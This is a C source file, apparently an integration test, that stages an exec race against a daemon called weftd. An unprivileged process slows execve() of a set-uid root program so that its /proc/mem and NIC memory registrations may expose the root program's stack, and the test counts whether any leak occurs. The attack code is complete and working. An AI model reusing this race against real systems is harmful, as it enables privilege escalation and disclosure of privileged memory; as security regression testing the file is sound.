/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * The exec race: connections of a process that executes a set-uid program while weftd inspects it.
 *
 * exec_race SOCKET WEFTD-PID PROGRAM TRIES MIB... runs the attack TRIES times for each size. An
 * attacker without rights opens sockets, leaves them to a child and fills MIB of memory. execve()
 * takes long to free that memory; an open of /proc/PID/mem meanwhile waits and gets the new
 * program's memory. The attacker connects all sockets and executes PROGRAM, which is set-uid root.
 * This process, root, duplicates weftd's descriptors one by one (pidfd_getfd) and tests whether one
 * of them can read the program's stack. The child attaches and makes the NIC read the same bytes.
 * Exit status 1: an attacker got them.
 */
#include <dirent.h>
#include <poll.h>
#include <signal.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#include "tests/int/hostile.h"

enum {
	SOCKETS = 120,
	ATTACHED = 4, /* of these sockets the child attaches this many */
	NOBODY = 65534,
	PROBE_BYTES = 64,
	WAIT_MS = 30000,
};

/* Set by the attacker's child when it has tried. */
struct gain {
	uint32_t attached, registered, completed;
};

static const char *program;
static int weftd;

static void drop_rights(void)
{
	if (setresgid(NOBODY, NOBODY, NOBODY) || setresuid(NOBODY, NOBODY, NOBODY))
		die("no other user: %s", strerror(errno));
	/* Drops rights as a process that never was root. */
	if (prctl(PR_SET_DUMPABLE, 1))
		die("PR_SET_DUMPABLE: %s", strerror(errno));
}

static int unconnected(void)
{
	int sock = socket(AF_UNIX, SOCK_SEQPACKET, 0);

	if (sock < 0)
		die("socket: %s", strerror(errno));
	return sock;
}

static void connect_it(int sock)
{
	struct sockaddr_un addr = {.sun_family = AF_UNIX};

	snprintf(addr.sun_path, sizeof(addr.sun_path), "%s", socket_path);
	if (connect(sock, (struct sockaddr *)&addr, sizeof(addr)))
		die("connect: %s", strerror(errno));
}

/*
 * Uses one of the connections: attaches, with the memory that the attacker had before it executed
 * the program or with none, and makes the NIC send itself the bytes at addr.
 */
static void ask_nic(int sock, int mem, uint64_t addr, struct gain *gain)
{
	struct hw_cmd cmd = {.op = HW_CMD_REG_MR};
	struct hw_cmd_resp resp;
	struct hw_cqe cqe;
	struct victim v;

	if (attach_on(&v, sock, mem))
		return;
	gain->attached++;
	furnish_attached(&v, 1);
	cmd.u.reg_mr = (struct hw_cmd_reg_mr){.addr = addr,
					      .iova = addr,
					      .bytes = PROBE_BYTES,
					      .pd = v.pd,
					      .access = HW_ACCESS_LOCAL_WRITE};
	if (!command(v.sock, &cmd, &resp)) {
		gain->registered++;
		post(&v, HW_WQE_WRITE, addr, PROBE_BYTES, resp.u.mr.stag);
		cqe = completion(&v, 0);
		gain->completed += !cqe.status;
	}
	detach(&v);
}

/* The child that holds the sockets: waits for the address, tries, and reports. */
static void keep(const int *sock, int mem, int talk)
{
	struct gain gain = {0};
	uint64_t addr;

	if (read(talk, &addr, sizeof(addr)) != sizeof(addr))
		_exit(0);
	for (int i = 0; i < ATTACHED; i++)
		ask_nic(sock[i * (SOCKETS - 1) / (ATTACHED - 1)], i == 1 ? mem : -1, addr, &gain);
	if (write(talk, &gain, sizeof(gain)) != sizeof(gain))
		_exit(1);
	_exit(0);
}

static void attack(int talk, uint64_t fill_bytes)
{
	const uint8_t *fill;
	int sock[SOCKETS], mem;

	drop_rights();
	mem = open("/proc/self/mem", O_RDWR);
	if (mem < 0)
		die("/proc/self/mem: %s", strerror(errno));
	for (int i = 0; i < SOCKETS; i++)
		sock[i] = unconnected();
	/* The child ends with the attacker: nothing is left when that is killed. */
	if (!fork()) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		keep(sock, mem, talk);
	}
	for (int i = 0; i < SOCKETS; i++)
		fcntl(sock[i], F_SETFD, FD_CLOEXEC);
	fcntl(mem, F_SETFD, FD_CLOEXEC);
	if (fill_bytes) {
		fill = mmap(NULL, fill_bytes, PROT_READ | PROT_WRITE,
			    MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
		if (fill == MAP_FAILED)
			die("%llu bytes: %s", (unsigned long long)fill_bytes, strerror(errno));
		/* Small pages take the longest to free. */
		(void)madvise((void *)(uintptr_t)fill, fill_bytes, MADV_NOHUGEPAGE);
	}
	for (int i = 0; i < SOCKETS; i++)
		connect_it(sock[i]);
	execl(program, program, "1000", (char *)NULL);
	die("%s: %s", program, strerror(errno));
}

/* End of the program's stack; 0: it does not run yet. */
static uint64_t stack_of(pid_t pid)
{
	char path[64], exe[512], line[512];
	unsigned long from, to, end = 0;
	ssize_t n;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
	n = readlink(path, exe, sizeof(exe) - 1);
	if (n <= 0)
		return 0;
	exe[n] = '\0';
	if (strcmp(exe, program))
		return 0;
	snprintf(path, sizeof(path), "/proc/%d/maps", (int)pid);
	f = fopen(path, "r");
	while (f && fgets(line, sizeof(line), f)) {
		if (strstr(line, "[stack]") && sscanf(line, "%lx-%lx", &from, &to) == 2)
			end = to;
	}
	if (f)
		fclose(f);
	return end;
}

static uint64_t await_stack(pid_t pid)
{
	for (int ms = 0; ms < WAIT_MS; ms++) {
		uint64_t end = stack_of(pid);

		if (end)
			return end;
		if (waitpid(pid, NULL, WNOHANG) == pid)
			die("the attacker ended before it executed %s", program);
		usleep(1000);
	}
	die("%s does not run", program);
}

/* Counts the descriptors of weftd that give the bytes at addr of the program's memory. */
static uint32_t leaks(pid_t pid, uint64_t addr)
{
	uint8_t want[PROBE_BYTES], got[PROBE_BYTES];
	char path[64], link[512];
	struct dirent *entry;
	uint32_t count = 0;
	int mem, fd;
	ssize_t n;
	DIR *dir;

	snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid);
	mem = open(path, O_RDONLY);
	if (mem < 0 || pread(mem, want, sizeof(want), (off_t)addr) != sizeof(want))
		die("the program's stack cannot be read by root: %s", strerror(errno));
	close(mem);
	snprintf(path, sizeof(path), "/proc/%s/fd", getenv("WEFTD_PID"));
	dir = opendir(path);
	if (!dir)
		die("%s: %s", path, strerror(errno));
	while ((entry = readdir(dir))) {
		n = readlinkat(dirfd(dir), entry->d_name, link, sizeof(link) - 1);
		link[n > 0 ? n : 0] = '\0';
		if (!strstr(link, "/mem"))
			continue;
		fd = (int)syscall(SYS_pidfd_getfd, weftd, atoi(entry->d_name), 0);
		if (fd < 0)
			continue;
		count += pread(fd, got, sizeof(got), (off_t)addr) == sizeof(got) &&
			 !memcmp(got, want, sizeof(got));
		close(fd);
	}
	closedir(dir);
	return count;
}

/* Connections to weftd, and its own sockets. */
static uint32_t sockets(void)
{
	char path[64], link[512];
	struct dirent *entry;
	uint32_t count = 0;
	DIR *dir;

	snprintf(path, sizeof(path), "/proc/%s/fd", getenv("WEFTD_PID"));
	dir = opendir(path);
	if (!dir)
		die("%s: %s", path, strerror(errno));
	while ((entry = readdir(dir))) {
		ssize_t n = readlinkat(dirfd(dir), entry->d_name, link, sizeof(link) - 1);

		link[n > 0 ? n : 0] = '\0';
		count += !strncmp(link, "socket:", 7);
	}
	closedir(dir);
	return count;
}

/* Connections of a try that has ended would count in the share of the next one. */
static void await_sockets(uint32_t most)
{
	for (int ms = 0; sockets() > most; ms++) {
		if (ms == WAIT_MS)
			die("weftd has %u sockets, not %u", sockets(), most);
		usleep(1000);
	}
}

/* True if the attacker reached the memory of the program. */
static bool try_once(uint64_t fill_bytes, struct gain *sum)
{
	struct pollfd p = {.events = POLLIN};
	struct gain gain;
	uint64_t addr;
	uint32_t count;
	int talk[2];
	pid_t pid;

	if (socketpair(AF_UNIX, SOCK_STREAM, 0, talk))
		die("socketpair: %s", strerror(errno));
	pid = fork();
	if (!pid) {
		close(talk[0]);
		attack(talk[1], fill_bytes);
	}
	close(talk[1]);
	addr = await_stack(pid) - PROBE_BYTES;
	if (write(talk[0], &addr, sizeof(addr)) != sizeof(addr))
		die("the attacker's child has gone");
	p.fd = talk[0];
	/* weftd has accepted all connections when it has answered the attaching ones. */
	if (poll(&p, 1, WAIT_MS) != 1 || read(talk[0], &gain, sizeof(gain)) != sizeof(gain))
		die("the attacker's child does not answer");
	count = leaks(pid, addr);
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	close(talk[0]);
	sum->attached += gain.attached;
	sum->registered += gain.registered;
	sum->completed += gain.completed;
	if (count)
		printf("weftd has %u descriptors of the set-uid program's memory\n", count);
	if (gain.completed)
		printf("the NIC read it by %u of %u connections\n", gain.completed, gain.attached);
	return count || gain.completed;
}

int main(int argc, char **argv)
{
	uint32_t tries, wins = 0, total = 0, own_sockets;
	struct gain sum = {0};

	if (argc < 6) {
		fprintf(stderr, "exec_race: say SOCKET WEFTD-PID PROGRAM TRIES MIB...\n");
		return 2;
	}
	socket_path = argv[1];
	setenv("WEFTD_PID", argv[2], 1);
	weftd = (int)syscall(SYS_pidfd_open, atoi(argv[2]), 0);
	if (weftd < 0)
		die("weftd: %s", strerror(errno));
	program = argv[3];
	tries = (uint32_t)atoi(argv[4]);
	own_sockets = sockets();
	for (int i = 5; i < argc; i++) {
		for (uint32_t t = 0; t < tries; t++, total++) {
			wins += try_once((uint64_t)atoi(argv[i]) << 20, &sum);
			await_sockets(own_sockets);
		}
	}
	printf("%u tries, %u won; attached %u, registered %u, read %u\n", total, wins, sum.attached,
	       sum.registered, sum.completed);
	return wins > 0;
}
